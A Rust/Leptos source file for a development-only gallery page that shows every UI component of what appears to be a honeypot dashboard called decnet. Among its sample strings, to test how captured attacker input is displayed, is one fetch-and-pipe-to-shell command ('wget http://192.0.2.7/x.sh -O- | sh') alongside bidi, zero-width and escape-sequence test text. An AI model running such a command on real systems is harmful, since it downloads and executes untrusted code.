//! Every piece of `components` in every state, side by side: to look at while working on one. Only in development builds.

use std::{collections::BTreeSet, sync::Arc};

use decnet_model::{
    clock::from_micros,
    state::{AlertKind, DeckyState, WorkerState},
    view::AlertView,
};
use leptos::prelude::*;
use time::Duration;

use crate::{
    api::{Fault, FaultKind},
    components::{
        bell::{Alerts, BellFace},
        chart::{HeatStrip, Histogram, Series},
        download::Export,
        frame::{PageHead, ThemeChoice},
        glyph::Glyph,
        guide::Guide,
        icon::{Icon, Mark},
        notice::{Empty, Loading, Problem},
        range::RangeMenu,
        said::{Command, CopyButton, Said},
        stat::{ShareBar, StatCard, StateBadge, WorkerBadge},
        table::{Column, Leads, Listed, Table},
        toast::{ToastCard, use_toasts},
        when::{Ago, Clock, Elapsed},
    },
    text,
};

/// The page.
#[component]
pub(crate) fn GalleryPage() -> impl IntoView {
    let toasts = use_toasts();
    view! {
        <PageHead title="Gallery" />
        <Piece title="Buttons">
            <div class="inline-form">
                <button type="button" class="button">"Button"</button>
                <button type="button" class="button primary">"Primary"</button>
                <button type="button" class="button primary danger">"Danger"</button>
                <button type="button" class="button on" aria-pressed="true">"On"</button>
                <button type="button" class="button" disabled>"Disabled"</button>
                <button type="button" class="link">"Link"</button>
                <button type="button" class="icon-button" aria-label="An icon"><Mark icon=Icon::Again /></button>
                <ThemeChoice />
            </div>
        </Piece>
        <Piece title="Icons">
            <p class="inline-form">{Icon::ALL.iter().map(|icon| view! { <Mark icon=*icon /> }).collect_view()}</p>
        </Piece>
        <Piece title="Glyphs">
            <p class="inline-form">
                {(0..12)
                    .map(|n| view! { <Glyph seed=format!("fingerprint {n}") size=32 /> })
                    .collect_view()}
                <Glyph seed="fingerprint 1".to_owned() size=72 />
                <Glyph seed="fingerprint 1".to_owned() size=16 />
            </p>
        </Piece>
        <Piece title="States">
            <p class="inline-form">
                {DeckyState::ALL
                    .iter()
                    .map(|state| view! { <StateBadge state=Signal::stored(*state) /> })
                    .collect_view()}
            </p>
            <p class="inline-form">
                {WorkerState::ALL
                    .iter()
                    .map(|state| view! { <WorkerBadge name="worker".to_owned() state=*state /> })
                    .collect_view()}
            </p>
        </Piece>
        <Piece title="Counters">
            <div class="stats">
                <StatCard label="Quiet" value=Signal::stored(0) note=Signal::stored("nothing yet".to_owned()) href="/gallery" hot=true />
                <StatCard label="Hot" value=Signal::stored(48_213) note=Signal::stored("120 in the last hour".to_owned()) href="/gallery" hot=true />
                <StatCard label="Ours" value=Signal::stored(20) note=Signal::stored("of 20 wanted".to_owned()) href="/gallery" />
            </div>
            <ShareBar value=30 most=100 />
        </Piece>
        <Piece title="Charts">
            <Histogram series=series(60, 1) what="events" />
            <Histogram series=Signal::stored(Series::default()) what="events" />
            <HeatStrip series=series(1_440, 1) href=Callback::new(|_| "/gallery".to_owned()) />
        </Piece>
        <Piece title="What was said">
            <p><Said text="wget http://192.0.2.7/x.sh -O- | sh" /></p>
            <p><Said text="\u{202e}right to left\u{202c}, zero\u{200b}width, \u{1b}[31mred, <b>bold</b>" /></p>
            <p><Said text="a".repeat(400) max=48 /></p>
            <p><Command text="ssh root@127.66.0.2" /></p>
            <p><code>"192.0.2.7"</code><CopyButton text="192.0.2.7" what="address" /></p>
        </Piece>
        <Piece title="Times">
            <p class="inline-form">
                <Ago at=text::now() - Duration::seconds(4) />
                <Ago at=text::now() - Duration::hours(7) />
                <Elapsed since=text::now() - Duration::days(3) />
                <Clock at=text::now() />
                <Clock at=text::now() - Duration::days(3) />
            </p>
        </Piece>
        <Piece title="Loading, nothing, trouble">
            <Loading rows=3 />
            <Empty title="Nothing yet" hint="What to do about it." command="decnet deploy --archetype linux-server" />
            // One that forbids the page would make that its status.
            {[FaultKind::Invalid, FaultKind::NotFound, FaultKind::Unavailable, FaultKind::Internal]
                .map(|kind| {
                    let mut fault = Fault::new(kind, "what happened, and why");
                    fault.error_id = (kind == FaultKind::Internal).then(|| "01890a5d-ac96-774b-bcce-b302099a8057".to_owned());
                    view! { <Problem fault again=Callback::new(|()| ()) /> }
                })
                .into_iter()
                .collect_view()}
        </Piece>
        <Piece title="Menus">
            <div class="inline-form">
                <Export from=Signal::stored("/api/v1/logs/export".to_owned()) />
                <RangeMenu />
                <details class="menu bell"><BellFace unread=0 /></details>
                <details class="menu bell"><BellFace unread=3 /></details>
            </div>
        </Piece>
        <Piece title="Alerts">
            <Alerts alerts=Vec::new() />
            <Alerts alerts=AlertKind::ALL.iter().map(|kind| alert(*kind)).collect() />
        </Piece>
        <Piece title="Toasts">
            <div class="gallery-toasts">
                <ToastCard words="The setting holds from now on.".to_owned() failed=false close=Callback::new(|()| ()) />
                <ToastCard words="The server does not answer: no answer within 3 s".to_owned() failed=true close=Callback::new(|()| ()) />
            </div>
            <div class="inline-form">
                <button type="button" class="button" on:click=move |_| toasts.done("It was done.")>"Something is done"</button>
                <button
                    type="button"
                    class="button"
                    on:click=move |_| toasts.failed(&Fault::new(FaultKind::Unavailable, "what happened, and why"))
                >
                    "Something fails"
                </button>
            </div>
        </Piece>
        <Piece title="First steps">
            <Guide deckies=Signal::stored(Vec::new()) skip=RwSignal::new(false) />
        </Piece>
        <Piece title="Forms">
            <div class="form">
                <label><span>"Text"</span><input placeholder="placeholder" /></label>
                <label><span>"Choice"</span><select><option>"one"</option><option>"two"</option></select></label>
                <label><span>"Disabled"</span><input disabled value="value" /></label>
            </div>
            <p class="form-fault" role="alert">"What is wrong with it."</p>
        </Piece>
        <Piece title="A table of 10,000 rows"><Long /></Piece>
    }
    .into_any()
}

#[component]
fn Piece(title: &'static str, children: Children) -> impl IntoView {
    view! { <section class="panel"><header><h2>{title}</h2></header>{children()}</section> }.into_any()
}

fn alert(kind: AlertKind) -> AlertView {
    AlertView {
        kind,
        count: 7,
        names: vec!["web-01".into(), "127.0.0.1".into(), "ingester".into()],
        detail: "what the first of them has".into(),
        since: (kind == AlertKind::Intrusion).then(|| text::now() - Duration::minutes(4)),
    }
}

/// Counts that rise and fall.
fn series(length: u64, step: i64) -> Signal<Series> {
    let counts = (0..length)
        .map(|i| (i * 7919) % 97 * u64::from(i % 11 > 2))
        .collect();
    Signal::stored(Series {
        start: 29_000_000,
        step,
        counts,
    })
}

/// A row of the long table.
struct Numbered(i64);

impl Listed for Numbered {
    fn row_id(&self) -> String {
        self.0.to_string()
    }

    fn row_words(&self) -> String {
        format!("row {}", self.0)
    }
}

const COLUMNS: &[Column<Numbered>] = &[
    Column {
        label: "Row",
        class: "c-row",
        sort: Some(""),
        cell: |row| row.0.into_any(),
    },
    Column {
        label: "Square",
        class: "number",
        sort: Some("square"),
        cell: |row| (row.0 * row.0).into_any(),
    },
    Column {
        label: "When",
        class: "c-when",
        sort: None,
        cell: |row| view! { <Clock at=from_micros(row.0 * 60_000_000) /> }.into_any(),
    },
];

#[component]
fn Long() -> impl IntoView {
    let rows = Signal::stored(
        (0..10_000)
            .map(|n| (Arc::new(Numbered(n)), false))
            .collect::<Vec<_>>(),
    );
    let selected = RwSignal::new(BTreeSet::new());
    view! {
        <Table name="gallery" columns=COLUMNS rows=rows leads=Leads::Drawer("row") selected=selected>
            <p class="table-note">{move || format!("{} selected", selected.with(BTreeSet::len))}</p>
        </Table>
    }
    .into_any()
}
